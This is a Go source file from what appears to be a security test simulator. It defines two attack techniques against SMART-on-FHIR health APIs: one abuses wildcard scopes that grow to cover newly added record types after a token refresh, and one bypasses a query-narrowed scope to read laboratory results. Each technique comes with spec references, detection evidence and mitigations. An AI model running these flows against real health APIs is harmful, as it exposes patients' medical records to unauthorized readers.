package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// invited has a clinician let the thief's app in with a scope, and returns the token.
func (a *app) invited(ctx context.Context, scope string) (t fapi.TokenResponse, err error) {
	s := newSite(a.g)
	z, err := a.authorize(ctx, scope, a.g.Target().FHIRBase, nil)
	if err != nil {
		return t, err
	}
	if err := a.g.Lure(z.url); err != nil {
		return t, err
	}
	code := s.code()
	if code == "" {
		return t, ErrStopped
	}
	return a.redeem(ctx, code, z, a.g.Target().FHIRBase)
}

var _ = register("SM-05", Technique{
	Variant: "of-another-day",
	Title:   "A scope for everything grows by itself",
	Story: "A clinician let the thief's app see every kind of record there was. An hour later the API begins to serve a new kind. Nobody asks her again: the app renews its " +
		"token and reads that too.",
	Reads:    []string{"SMART App Launch 2.2, Wildcard scopes"},
	Evidence: "A type of record read under a grant that is older than the type.",
	Has:      []event.Asset{event.OwnClient}, Scene: Scene{TypeAdded: true},
	Beyond: "FAPI 2.0 asks that scopes are granted and kept to, and this one is. SMART App Launch 2.2 says that a wildcard covers what is to come, and leaves it to the consent page to " +
		"say so. An API that holds a wildcard to its day stops this.",
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.invited(ctx, "openid offline_access user/*.rs")
		if err != nil {
			return err
		}
		g.Wait(hour)
		t, err = a.token(ctx, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {t.RefreshToken}}, nil)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+"/"+g.Target().AddedType+"?patient="+url.QueryEscape(stranger(g)), t)
		return err
	},
})

var _ = register("SM-05/query", Technique{
	Variant: "narrowed",
	Title:   "Consent to one kind of measurement opens them all",
	Story: "A clinician lets the thief's app see what her patients say about smoking, and nothing else: its scope has a query that says so. The app asks for laboratory " +
		"results. An API that reads a scope up to the question mark gives them to it.",
	Reads:    []string{"SMART App Launch 2.2, Finer-grained resource constraints", "FAPI 2.0 SP 5.3.4-4", "RFC 9700 s2.3"},
	Evidence: "Searches for a category that the token's scope does not name.",
	Has:      []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.invited(ctx, "openid user/Observation.rs?category=social-history")
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+"/Observation?category=laboratory&patient="+url.QueryEscape(stranger(g)), t)
		return err
	},
})
